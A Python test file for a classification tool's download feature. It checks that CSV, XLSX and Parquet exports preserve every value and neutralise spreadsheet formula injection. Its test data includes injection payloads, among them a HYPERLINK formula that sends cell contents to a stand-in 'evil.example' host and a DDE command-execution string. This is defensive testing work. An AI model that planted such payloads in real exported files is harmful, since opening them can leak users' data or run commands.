"""What is downloaded: every value comes back out of each format, and no spreadsheet carries one out."""

import csv
import zipfile
from collections.abc import Sequence
from io import BytesIO, StringIO

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from batch_files import csv_bytes, parquet_bytes, read, rows_of, unmarked
from python_calamine import CalamineWorkbook

from ui.api.predictions import ModelReference, Prediction
from ui.batch.answers import Answers
from ui.batch.downloads import stem, write
from ui.batch.excel import LONGEST_CELL, excel_length
from ui.batch.export_files import csv_file, parquet_file, xlsx_file
from ui.batch.export_table import Export
from ui.batch.sheet import Table
from ui.batch.texts import Fate
from ui.words.english.wording import ENGLISH
from ui.words.french.wording import FRENCH

DANGEROUS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\tlate",
    "\rlate",
    "\nlate",
    "  =1+1",
    "\u00a0\u2003=1",
    "\u200b\ufeff=1",
    "\x00=1",
    "\x1f@late",
    "\u202e=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20late",
    "\u3000\uff1d1",
    "\ufe661",
    "\ufe6blate",
    "\u22121",
    "'=1+1",
    "''  =1",
    '=HYPERLINK("https://evil.example/"&A1,"late")',
    "=cmd|' /C calc'!A0",
    "@airline late",
]
HARMLESS = [
    "late",
    "1+1",
    "a=b",
    "'late'",
    "'",
    "",
    " late",
    "é=1",
    "😀 =1",
    '"=1"',
    "0",
    "http://x.example",
    "a\tb",
    "_x0041_",
]
ODD = [*HARMLESS, "a\x00b", "cr\rlf\nend", "\x0b\x1f\x7f\x85\u2028", "née 😀 \U0010ffff", "\ufdd0"]
MODEL = ModelReference(name="word_weights", version="1", digest="d")


def table_of(texts: Sequence[str]) -> Table:
    columns = pa.table({"text": pa.array(texts, pa.string()), "n": pa.array(range(len(texts)), pa.int64())})
    return Table(columns, np.zeros(len(texts), np.bool_), ",")


def answers_for(rows: int, **probabilities: float) -> Answers:
    """The same to every row."""
    answers = Answers(rows)
    given = probabilities or {"negative": 0.9, "positive": 0.1}
    label = max(given, key=lambda name: given[name])
    answers.note(
        np.arange(rows),
        [
            Prediction(
                label=label,
                probability=given[label],
                probabilities=given,
                abstained=number % 2 == 1,
                model=MODEL,
                prediction_id=f"0190-{number:04d}",
            )
            for number in range(rows)
        ],
    )
    return answers


def export_of(texts: Sequence[str]) -> Export:
    return Export(table_of(texts), answers_for(len(texts)))


def csv_rows(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def xlsx_rows(data: bytes) -> list[list[object]]:
    return list(map(list, CalamineWorkbook.from_filelike(BytesIO(data)).get_sheet_by_index(0).to_python()))


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_cell_that_could_be_carried_out_is_marked_in_csv_and_can_be_had_back(text: str) -> None:
    [_, row] = csv_rows(write(export_of([text]), "csv", ENGLISH))
    assert row[0] == "'" + text
    assert unmarked(row[0]) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_cell_stays_as_it_is(text: str) -> None:
    [_, row] = csv_rows(write(export_of([text]), "csv", ENGLISH))
    assert row[0] == text
    assert unmarked(row[0]) == text


def test_the_names_of_columns_are_marked_too_and_counted() -> None:
    columns = pa.table({"=1+1": ["late"], " @x": ["=2"], "text": ["+3"]})
    export = Export(Table(columns, np.zeros(1, np.bool_), ","), answers_for(1))
    [header, _] = csv_rows(write(export, "csv", ENGLISH))
    assert header[:3] == ["'=1+1", "' @x", "text"]
    assert export.dangerous_cells == 4


def test_the_marked_cells_are_counted_as_they_are_marked() -> None:
    texts = [*DANGEROUS, *HARMLESS, *ODD]
    export = export_of(texts)
    data = csv_rows(write(export, "csv", ENGLISH))
    marked = sum(row[0] != text for row, text in zip(data[1:], texts, strict=True))
    assert export.dangerous_cells == marked == len(DANGEROUS)


def test_every_string_comes_back_out_of_csv() -> None:
    texts = [*DANGEROUS, *ODD]
    rows = csv_rows(write(export_of(texts), "csv", ENGLISH))[1:]
    assert [unmarked(row[0]) for row in rows] == texts


def test_every_string_comes_back_out_of_xlsx_and_none_is_a_formula_or_a_link() -> None:
    texts = [*DANGEROUS, *ODD]
    data = write(export_of(texts), "xlsx", ENGLISH)
    assert [row[0] for row in xlsx_rows(data)[1:]] == texts
    with zipfile.ZipFile(BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and "<f " not in sheet and "hyperlink" not in sheet
        assert not [name for name in archive.namelist() if "externalLink" in name or "sheet1.xml.rels" in name]


def test_every_string_comes_back_out_of_parquet_with_the_types_of_the_others() -> None:
    texts = [*DANGEROUS, *ODD]
    columns = pq.read_table(BytesIO(write(export_of(texts), "parquet", ENGLISH)))
    assert columns["text"].to_pylist() == texts
    assert columns.schema.field("n").type == pa.int64()
    assert columns.schema.field("p_negative").type == pa.float64()
    assert columns.schema.field("abstained").type == pa.bool_()


def test_an_uploaded_file_can_be_downloaded_and_uploaded_again() -> None:
    rows = [["id", "text"], *([str(number), text] for number, text in enumerate(ODD) if text)]
    source = read("a.csv", csv_bytes(rows))
    export = Export(source.sheet.table(), answers_for(len(rows) - 1))
    for kind in ("csv", "xlsx", "parquet"):
        again = read(f"a.{kind}", write(export, kind, ENGLISH))
        assert [row[:2] for row in rows_of(again)] == rows, kind


def test_what_was_answered_stands_behind_the_columns_of_the_file() -> None:
    [header, first, second] = csv_rows(write(export_of(["late", "later"]), "csv", ENGLISH))
    added = ["label", "p_negative", "p_positive", "abstained", "prediction_id", "problem"]
    assert header == ["text", "n", *added]
    assert first == ["late", "0", "negative", "0.9", "0.1", "False", "0190-0000", ""]
    assert second[5] == "True"


def test_a_column_that_has_such_a_name_already_keeps_it() -> None:
    columns = pa.table({"text": ["late"], "label": ["mine"], "P_Negative": ["x"], "label_2": ["y"]})
    export = Export(Table(columns, np.zeros(1, np.bool_), ","), answers_for(1))
    names = export.columns(ENGLISH).column_names
    assert names[:6] == ["text", "label", "P_Negative", "label_2", "label_3", "p_negative_2"]
    assert export.columns(ENGLISH)["label"].to_pylist() == ["mine"]


def test_a_row_without_an_answer_says_why_in_the_language_of_now() -> None:
    answers = Answers(4)
    answers.note(np.array([0]), [prediction_like(0.7)])
    answers.set_apart(1, Fate.EMPTY)
    answers.set_apart(2, Fate.REFUSED, "texts.0: must not hold =1")
    export = Export(table_of(["late", "", "x", "y"]), answers)
    english = export.columns(ENGLISH)
    assert english["problem"].to_pylist() == [
        None,
        "no text",
        "refused by the API: texts.0: must not hold =1",
        "not analysed yet",
    ]
    assert english["label"].to_pylist() == ["negative", None, None, None]
    assert english["p_negative"].to_pylist() == [0.7, None, None, None]
    assert english["prediction_id"].to_pylist()[1:] == [None] * 3
    assert export.columns(FRENCH)["problem"].to_pylist()[1] == "sans texte"


def prediction_like(negative: float) -> Prediction:
    return Prediction(
        label="negative",
        probability=negative,
        probabilities={"negative": negative, "positive": 1 - negative},
        abstained=False,
        model=MODEL,
        prediction_id="0190",
    )


def test_before_any_answer_there_is_a_file_all_the_same() -> None:
    export = Export(table_of(["late"]), Answers(1))
    for kind in ("csv", "xlsx", "parquet"):
        assert write(export, kind, ENGLISH)


def test_a_label_of_a_later_model_has_a_column_of_its_own() -> None:
    answers = answers_for(3)
    wide = {"negative": 0.2, "neutral": 0.7, "positive": 0.1}
    answers.note(np.array([2]), [prediction_like(0.2).model_copy(update={"label": "neutral", "probabilities": wide})])
    columns = Export(table_of(["a", "b", "c"]), answers).columns(ENGLISH)
    assert columns["label"].to_pylist() == ["negative", "negative", "neutral"]
    assert columns["p_neutral"].to_pylist() == [None, None, 0.7]


def test_an_id_that_is_longer_than_usual_is_kept_whole() -> None:
    answers = Answers(1)
    answers.note(np.array([0]), [prediction_like(0.9).model_copy(update={"prediction_id": "x" * 80 + "é"})])
    assert answers.prediction_id(0) == "x" * 80 + "é"


def test_the_delimiter_of_the_file_is_the_one_of_the_download() -> None:
    source = read("a.csv", csv_bytes([["id", "text"], ["1", "late, again; yes"]], delimiter=";"))
    export = Export(source.sheet.table(), answers_for(1))
    assert csv_rows(write(export, "csv", ENGLISH), ";")[1][:2] == ["1", "late, again; yes"]


@pytest.mark.parametrize("separator", [";", "\t", "|"])
def test_a_spreadsheet_that_looks_for_another_separator_finds_no_formula_behind_it(separator: str) -> None:
    columns = pa.table({"text": [f"late{separator}=1+1", f'so "late"{separator}@x', f"a\n{separator}+1"]})
    written = csv_file(columns, ",").decode("utf-8-sig")
    rows = csv.reader(StringIO(written, newline=""), delimiter=separator)
    assert not [cell for row in rows for cell in row if cell[:1] in {"=", "+", "-", "@"}]


def test_bytes_that_are_no_characters_come_back_out_of_csv_and_parquet() -> None:
    values = [b"late \xff", b"\xed\xa0\x80"]
    column = pa.Array.from_buffers(pa.string(), 2, pa.array(values, pa.binary()).buffers())
    columns = pa.table({"text": column})
    assert csv_file(columns, ",").removeprefix(b"\xef\xbb\xbf") == b'"text"\r\n"late \xff"\r\n"\xed\xa0\x80"\r\n'
    again = pq.read_table(BytesIO(parquet_file(columns)))
    assert again["text"].cast(pa.binary()).to_pylist() == values
    assert xlsx_rows(xlsx_file(columns))[1][0] == "late ?"


def test_a_cell_that_is_too_long_for_excel_is_cut_there_and_counted() -> None:
    texts = ["x" * LONGEST_CELL, "x" * (LONGEST_CELL + 1), "😀" * 20_000, "é" * 20_000]
    export = export_of(texts)
    assert export.long_cells == 2
    cells = [str(row[0]) for row in xlsx_rows(write(export, "xlsx", ENGLISH))[1:]]
    assert (cells[0], cells[3]) == (texts[0], texts[3])
    assert all(cell.endswith("…") and excel_length(cell) <= LONGEST_CELL for cell in cells[1:3])
    assert csv_rows(write(export, "csv", ENGLISH))[2][0] == texts[1]


def test_values_of_every_type_are_written() -> None:
    columns = pa.table(
        {
            "id": pa.array([1467810369123456789, None]),
            "x": pa.array([0.5, float("inf")]),
            "nan": pa.array([float("nan"), None]),
            "at": pa.array([0, None], pa.timestamp("s")),
            "list": pa.array([["=1", "é"], None]),
            "bytes": pa.array([b"=1", None], pa.binary()),
            "kind": pa.array(["=1", None]).dictionary_encode(),
            "yes": pa.array([True, None]),
        }
    )
    [_, first, second] = csv_rows(csv_file(columns, ","))
    assert first == ["1467810369123456789", "0.5", "nan", "1970-01-01 00:00:00", '["=1", "é"]', "b'=1'", "'=1", "True"]
    assert second == ["", "inf", "", "", "", "", "", ""]
    [_, row, *_] = xlsx_rows(xlsx_file(columns))
    assert row[0] == "1467810369123456789" and row[1] == 0.5 and row[7] is True


def test_an_older_parquet_keeps_what_pandas_noted_in_it() -> None:
    table = pa.table({"text": ["late"]}).replace_schema_metadata({"pandas": "{}", "mine": "1"})
    source = read("a.parquet", parquet_bytes(table))
    export = Export(source.sheet.table(), answers_for(1))
    assert pq.read_table(BytesIO(write(export, "parquet", ENGLISH))).schema.metadata[b"mine"] == b"1"


def test_the_name_of_the_file_is_made_of_letters_and_figures() -> None:
    assert stem("tweets of may.csv") == "tweets-of-may"
    assert stem('../<b>"x".csv') == "b-x"
    assert stem("§.csv") == "tweets"
